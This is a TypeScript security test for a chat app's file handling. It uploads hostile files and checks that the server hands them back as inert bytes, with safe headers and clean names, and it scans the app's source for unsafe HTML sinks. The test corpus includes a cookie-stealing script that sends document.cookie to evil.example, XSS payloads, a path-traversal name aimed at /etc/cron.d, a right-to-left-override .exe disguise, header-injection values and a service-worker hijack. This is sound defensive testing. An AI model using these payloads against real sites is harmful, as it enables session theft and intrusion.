/**
 * R5.5: files that would like to run: how home hands them out, under which names they arrive, and what the app's code
 * would let them do.
 */
import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Hex } from "@yanshu/client";
import { allOf, type Check } from "../check.ts";
import type { Deployment } from "../real/deployment.ts";
import { type Device, until } from "../real/device.ts";

const webSource = join(import.meta.dir, "../../../../web/src");
const script = "<script>fetch('/ws');new Image().src='https://evil.example/'+document.cookie</script>";
const corpus: readonly { readonly name: string; readonly type: string; readonly words: string }[] = [
  { name: "invoice.html", type: "text/html", words: `<!doctype html>${script}` },
  {
    name: "face.svg",
    type: "image/svg+xml",
    words: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`,
  },
  { name: "../../../etc/cron.d/x", type: "text/plain", words: "* * * * * root id" },
  { name: "照片\u202Egpj.exe", type: "image/jpeg", words: "MZ" },
  { name: "a\u0000b\nContent-Type: text/html", type: "text/html\r\nx: y", words: script },
  {
    name: `<img src=x onerror=alert(1)>.pdf`,
    type: "application/pdf",
    words: "%PDF-1.7 /OpenAction << /S /JavaScript >>",
  },
  { name: "bomb.zip", type: "application/zip", words: `PK\u0003\u0004${"\0".repeat(2_000)}` },
  {
    name: "worker.js",
    type: "text/javascript",
    words: "self.addEventListener('fetch', (e) => e.respondWith(new Response('owned')))",
  },
];

export async function hostileFiles(deployment: Deployment, ann: Device, ben: Device, chat: Hex): Promise<Check> {
  const filesOf = () =>
    ben.view("timeline", chat, 1_000).items.flatMap(({ body }) => (body.kind === "file" ? [body] : []));
  const before = filesOf().length;
  for (const { name, type, words } of corpus) await ann.api.sendFile(chat, { source: new Blob([words]), name, type });
  await until("all files are there", () => filesOf().length === before + corpus.length);
  const arrived = filesOf().slice(before);
  const texts = await Promise.all(
    arrived.map(async ({ file }) => Buffer.from(await ben.api.readFile(file.handle, 0, file.bytes)).toString()),
  );
  await deployment.settled();
  // Home may put what it likes in the place of a sealed file: plain HTML, as if an uploader had sealed nothing.
  const folder = join(deployment.server.folder, "blobs");
  const stored = (readdirSync(folder, { recursive: true }) as string[]).filter((name) =>
    /^[0-9a-f]{2}.[0-9a-f]{32}$/.test(name),
  );
  for (const name of stored) {
    const path = join(folder, name);
    writeFileSync(path, Buffer.alloc(statSync(path).size, `<!doctype html>${script}`));
  }
  const answers = await Promise.all(
    stored.flatMap((name) =>
      [{}, { range: "bytes=0-63" }, { accept: "text/html", "sec-fetch-dest": "document" }].map((headers) =>
        fetch(`http://127.0.0.1:${deployment.server.port}/blobs/${name.slice(3)}`, { headers }),
      ),
    ),
  );
  const header = (name: string) => answers.map(({ headers }) => headers.get(name) ?? "");
  const risky = sourceFaults();
  return allOf(
    "P5.hostile",
    "pages, pictures, programs and archives that would like to run are bytes to be saved: no type that runs, no name that misleads, no way into the page",
    {
      "what was sent arrives":
        texts.toSorted().join("\n") ===
        corpus
          .map(({ words }) => words)
          .toSorted()
          .join("\n"),
      "no name that turns round, hides or breaks": arrived.every(
        ({ name }) => !/[\p{Cc}\u202a-\u202e\u2066-\u2069\u2028\u2029]/u.test(name),
      ),
      "handed out as bytes or plain words alone": header("content-type").every((type) =>
        /^(?:application\/octet-stream|text\/plain)/.test(type),
      ),
      "never guessed at": header("x-content-type-options").every((value) => value === "nosniff"),
      "nothing may run in it": header("content-security-policy").every((value) =>
        value.startsWith("default-src 'none'"),
      ),
      "without a range nothing is handed out": answers.filter(({ ok }) => ok).every(({ status }) => status === 206),
      "no code makes markup of words": risky.length === 0,
    },
    stored.length >= corpus.length && answers.some(({ status }) => status === 206),
    `${corpus.length} files of the kinds that are used for it, ${answers.length} answers of home; ${risky.length} places that make markup of words${risky.length > 0 ? `: ${risky.join(", ")}` : ""}`,
  );
}

/** Places in the app's source that would make markup or code of words. */
function sourceFaults(): readonly string[] {
  const risky =
    /\b(?:(?:dangerouslySetInnerHTML|innerHTML|outerHTML|insertAdjacentHTML|document\.write|srcdoc|new Function)\b\s*[(=:]|eval\s*[(=])/;
  return (readdirSync(webSource, { recursive: true }) as string[]).filter(
    (name) =>
      /\.tsx?$/.test(name) && !name.endsWith(".test.ts") && risky.test(readFileSync(join(webSource, name), "utf8")),
  );
}
